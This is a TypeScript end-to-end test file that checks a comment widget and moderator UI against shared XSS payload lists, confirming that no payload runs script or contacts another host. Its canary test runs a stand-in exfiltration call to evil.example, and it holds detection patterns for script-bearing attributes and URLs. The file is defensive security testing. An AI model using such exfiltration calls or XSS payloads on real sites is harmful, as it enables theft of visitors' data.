import { execFileSync } from 'node:child_process';
import http, { type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import type { Site } from '../../src/sites/site-repository';
import { blockOtherHosts, launchChromium } from '../e2e/browser';
import { allowlistViolationsIn, firedIn, FLAG_PAYLOADS, pageProblems, XSS_TRAP } from '../e2e/widget-harness';
import { xssPayloads } from '../helpers/datasets';
import { startTestParley, type TestParley } from '../helpers/parley';
import { waitFor } from '../helpers/services';

const { buildModeratorUi } = require('../../scripts/build-ui.js') as { buildModeratorUi(): Promise<unknown> };

const ROOT = path.join(__dirname, '..', '..');
const HOST = '127.0.0.1';
const ADMIN_TOKEN = 'xss-suite-admin-token-0123456789abcdef';
/** Comments per page of the host site: each is loaded by one widget, 100 a request. */
const PER_PAGE = 600;
/** Submissions in flight at once. */
const CONCURRENCY = 24;

// Thousands of comments through the whole pipeline: minutes on a busy shared machine.
jest.setTimeout(900_000);

/**
 * Besides the harness's trap (alert, confirm, prompt, print, console, the flag): any
 * request a script makes by itself, other than the widget's own calls to Parley's API,
 * counts as a payload that ran.
 */
const NETWORK_TRAP = (api: string) => `(() => {
  const mark = (what) => { window.__parleyXss = what; };
  const ours = (url) => String(url).startsWith(${JSON.stringify(api)});
  const realFetch = window.fetch.bind(window);
  window.fetch = (input, init) => {
    const url = typeof input === 'string' ? input : input && input.url;
    if (!ours(new URL(url, location.href).href)) mark('fetch ' + url);
    return realFetch(input, init);
  };
  const open = XMLHttpRequest.prototype.open;
  XMLHttpRequest.prototype.open = function (method, url) { mark('xhr ' + url); return open.apply(this, arguments); };
  navigator.sendBeacon = (url) => { mark('beacon ' + url); return false; };
  window.open = (url) => { mark('window.open ' + url); return null; };
  const RealWebSocket = window.WebSocket;
  window.WebSocket = function (url) { mark('websocket ' + url); return new RealWebSocket(url); };
})();`;

/** A display name from a payload: names refuse control, text-direction and stacked combining characters. */
const nameFrom = (payload: string) =>
  payload
    .replace(/[\p{Cc}\p{M}\u200E\u200F\u202A-\u202E\u2066-\u2069\u061C]/gu, ' ')
    .slice(0, 80)
    .trim() || 'x';

describe('every XSS payload of the shared lists, published, in the widget and the moderator UI', () => {
  let parley: TestParley;
  let server: Server;
  let host: Server;
  let origin: string;
  let hostOrigin: string;
  let site: Site;
  let browser: Browser;
  const contexts: BrowserContext[] = [];
  const all = xssPayloads();
  const payloads = [...new Set([...all.map((p) => p.payload), ...FLAG_PAYLOADS])];
  const pages: { pageId: string; count: number }[] = [];

  async function newPage(): Promise<{ page: Page; offHost: string[]; problems: string[] }> {
    const context = await browser.newContext({ viewport: { width: 1000, height: 900 }, reducedMotion: 'reduce' });
    contexts.push(context);
    const offHost = await blockOtherHosts(context, HOST);
    await context.addInitScript(XSS_TRAP);
    await context.addInitScript(NETWORK_TRAP(`${origin}/v1/`));
    // The moderator UI signs in with the token it finds in sessionStorage (its own origin only).
    await context.addInitScript(
      `if (location.origin === ${JSON.stringify(origin)}) sessionStorage.setItem('parley.moderation.token', ${JSON.stringify(ADMIN_TOKEN)})`,
    );
    const problems = pageProblems(context);
    context.on('page', (page) => {
      // Only our two servers on 127.0.0.1 and the page itself may be asked for anything.
      page.on('request', (r) => {
        const url = r.url();
        if (!url.startsWith(origin) && !url.startsWith(hostOrigin) && !/^(data|blob|about):/.test(url))
          problems.push(`request: ${url}`);
      });
    });
    const page = await context.newPage();
    return { page, offHost, problems };
  }

  /** Moves over and tabs through the page, and waits, so delayed and interaction handlers get their chance. */
  async function provoke(page: Page) {
    for (let y = 0; y < 900; y += 60) await page.mouse.move(500, y);
    for (let i = 0; i < 5; i++) await page.keyboard.press('Tab');
    await page.waitForTimeout(300);
  }

  beforeAll(async () => {
    execFileSync(process.execPath, [path.join(ROOT, 'scripts', 'build-widget.js')], { cwd: ROOT });
    await buildModeratorUi();
    parley = await startTestParley({
      dialect: 'sqlite',
      env: { PARLEY_TRUST_PROXY: 'loopback', PARLEY_ADMIN_TOKEN: ADMIN_TOKEN, PARLEY_WORKER_CONCURRENCY: '8' },
    });
    server = await new Promise<Server>((resolve) => {
      const s = parley.app.listen(0, HOST, () => resolve(s));
    });
    origin = `http://${HOST}:${(server.address() as AddressInfo).port}`;
    // The page that embeds the widget: another origin (port) on the same host, no CSP, so
    // only the server's sanitizer and the widget stand between a payload and the page.
    host = http.createServer((req, res) => {
      const pageId = decodeURIComponent((req.url ?? '/').slice(1));
      res
        .writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' })
        .end(
          `<!doctype html><html><head><meta charset="utf-8"><title>Host</title></head><body><h1>A post</h1>` +
            `<div id="parley-comments"></div><script src="${origin}/embed.js" data-site="${site.key}" ` +
            `data-page-id="${pageId}" data-page-size="100" async></script></body></html>`,
        );
    });
    await new Promise<void>((resolve) => host.listen(0, HOST, resolve));
    hostOrigin = `http://${HOST}:${(host.address() as AddressInfo).port}`;
    site = await parley.createSite({
      origins: [hostOrigin],
      // Published by the pipeline unless a check holds or files it: a moderator approves the rest.
      moderation: 'none',
      linkLimit: 1000,
      policy: { floodPerMinute: 1000 },
    });
    browser = await launchChromium();
  });

  afterAll(async () => {
    for (const context of contexts) await context.close().catch(() => undefined);
    await browser?.close();
    host?.close();
    await new Promise((resolve) => server?.close(resolve));
    await parley?.close();
  });

  test('the traps catch a script that runs and a request to another host', async () => {
    const { page, offHost } = await newPage();
    await page.goto(`${hostOrigin}/canary`);
    await page.evaluate('alert("canary"); fetch("http://evil.example/steal").catch(() => {})');
    await page.waitForTimeout(200);
    expect((await firedIn(page)).join(' ')).toMatch(/alert\(canary\).*fetch http:\/\/evil\.example/);
    expect(offHost).toContain('http://evil.example/steal');
  });

  test('all of them are submitted, pass the pipeline and are approved', async () => {
    console.info(
      `XSS: ${all.length} payload lines in ${new Set(all.map((p) => p.file)).size} lists, ${payloads.length} distinct (with ${FLAG_PAYLOADS.length} of our own)`,
    );
    let next = 0;
    const ids: string[] = [];
    const refused: string[] = [];
    const send = async () => {
      for (let i = next++; i < payloads.length; i = next++) {
        const pageId = `xss-${Math.floor(i / PER_PAGE)}`;
        const res = await fetch(`${origin}/v1/sites/${site.key}/comments`, {
          method: 'POST',
          headers: {
            'Content-Type': 'application/json',
            'X-Forwarded-For': `10.${(i >> 16) & 255}.${(i >> 8) & 255}.${i & 255}`,
          },
          body: JSON.stringify({
            pageId,
            name: i % 2 ? nameFrom(payloads[i]) : `Tester ${i}`,
            email: `xss${i}@example.test`,
            text: payloads[i],
          }),
        });
        if (res.status === 202) ids[i] = ((await res.json()) as { comment: { id: string } }).comment.id;
        else refused.push(`${res.status} ${await res.text()} for ${payloads[i]}`);
      }
    };
    const started = Date.now();
    await Promise.all(Array.from({ length: CONCURRENCY }, send));
    console.info(`XSS: ${ids.filter(Boolean).length} accepted in ${Date.now() - started} ms`);
    expect(refused).toEqual([]);
    for (let start = 0; start < payloads.length; start += PER_PAGE)
      pages.push({ pageId: `xss-${start / PER_PAGE}`, count: Math.min(PER_PAGE, payloads.length - start) });

    // Every one through the worker's checks, then approved by a moderator, 500 at a time.
    const db = parley.runtime.db;
    await waitFor(
      async () => {
        const { n } = await db
          .selectFrom('comments')
          .select((eb) => eb.fn.countAll<number>().as('n'))
          .where('site_key', '=', site.key)
          .where('status', '=', 'pending')
          .executeTakeFirstOrThrow();
        return Number(n) === 0 ? true : undefined;
      },
      { timeoutMs: 600_000, what: 'the worker to decide every payload' },
    );
    console.info(`XSS: all decided after ${Date.now() - started} ms`);
    const rows = await db.selectFrom('comments').select(['id', 'status']).where('site_key', '=', site.key).execute();
    const decided = new Map<string, number>();
    for (const row of rows) decided.set(row.status, (decided.get(row.status) ?? 0) + 1);
    console.info(`XSS: the pipeline decided ${[...decided].map(([s, n]) => `${s} ${n}`).join(', ')}`);
    expect(rows).toHaveLength(payloads.length);
    const unpublished = rows.filter((r) => r.status !== 'approved').map((r) => r.id);
    for (let start = 0; start < unpublished.length; start += 500) {
      const res = await parley.http
        .post('/v1/moderation/actions')
        .set('Authorization', `Bearer ${ADMIN_TOKEN}`)
        .send({ ids: unpublished.slice(start, start + 500), action: 'approve' });
      expect(res.status).toBe(200);
      expect(res.body.results.filter((r: { ok: boolean }) => !r.ok)).toEqual([]);
    }
    console.info(`XSS: ${unpublished.length} approved by a moderator; all published after ${Date.now() - started} ms`);
  });

  test('shown by the real widget, 100 a request, no payload runs script or loads anything', async () => {
    expect(pages.length).toBeGreaterThan(0);
    let shown = 0;
    for (const { pageId, count } of pages) {
      const { page, offHost, problems } = await newPage();
      await page.goto(`${hostOrigin}/${pageId}`);
      await page.getByRole('heading', { name: `${count} comments` }).waitFor();
      const more = page.getByRole('button', { name: 'Load more comments' });
      const cards = page.locator('li.c');
      while ((await cards.count()) < count) {
        const before = await cards.count();
        await more.click();
        await page.waitForFunction(
          `document.querySelector('#parley-comments').shadowRoot.querySelectorAll('li.c').length > ${before}`,
        );
      }
      await provoke(page);
      expect({ pageId, fired: await firedIn(page), problems, offHost }).toEqual({
        pageId,
        fired: [],
        problems: [],
        offHost: [],
      });
      expect(await allowlistViolationsIn(page, '#parley-comments')).toEqual([]);
      shown += await cards.count();
      await page.context().close();
    }
    console.info(`XSS: ${shown} payloads shown by the widget; none ran, nothing loaded from elsewhere`);
    expect(shown).toBe(payloads.length);
  });

  test('shown in the moderator UI (raw text, published HTML, names), none runs script or loads anything', async () => {
    let shown = 0;
    for (const { pageId, count } of pages) {
      const { page, offHost, problems } = await newPage();
      // The UI asks for 25 a page; the API gives up to 100, so the test asks for that.
      await page.route('**/v1/moderation/comments?*', (route) => {
        const url = new URL(route.request().url());
        url.searchParams.set('limit', '100');
        return route.continue({ url: url.href });
      });
      await page.goto(`${origin}/moderation?status=approved&site=${site.key}&pageId=${pageId}`);
      const cards = page.locator('ol.queue > li.card');
      await cards.first().waitFor();
      const more = page.getByRole('button', { name: 'Load more' });
      while ((await cards.count()) < count) {
        const before = await cards.count();
        await more.click();
        // (The UI's CSP allows no string evaluation, which waitForFunction would need.)
        await cards.nth(before).waitFor();
      }
      await provoke(page);
      expect({ pageId, fired: await firedIn(page), problems, offHost }).toEqual({
        pageId,
        fired: [],
        problems: [],
        offHost: [],
      });
      // The published HTML in the cards holds only the allowlist, as in the widget.
      const bad = (await page.evaluate(`(() => {
        const tags = new Set(['P', 'BR', 'EM', 'STRONG', 'CODE', 'PRE', 'BLOCKQUOTE', 'UL', 'OL', 'LI', 'A']);
        const bad = [];
        for (const el of document.querySelectorAll('ol.queue .published *')) {
          if (!tags.has(el.tagName)) bad.push(el.tagName);
          for (const attr of el.attributes) if (/^on/i.test(attr.name) || /^\\s*(javascript|data|vbscript):/i.test(attr.value)) bad.push(el.tagName + ' ' + attr.name);
        }
        if (document.querySelector('ol.queue script, ol.queue iframe, ol.queue img, ol.queue object, ol.queue embed, ol.queue svg')) bad.push('active element');
        return bad;
      })()`)) as string[];
      expect(bad).toEqual([]);
      shown += await cards.count();
      await page.context().close();
    }
    console.info(`XSS: ${shown} payloads shown in the moderator UI; none ran, nothing loaded from elsewhere`);
    expect(shown).toBe(payloads.length);
  });
});
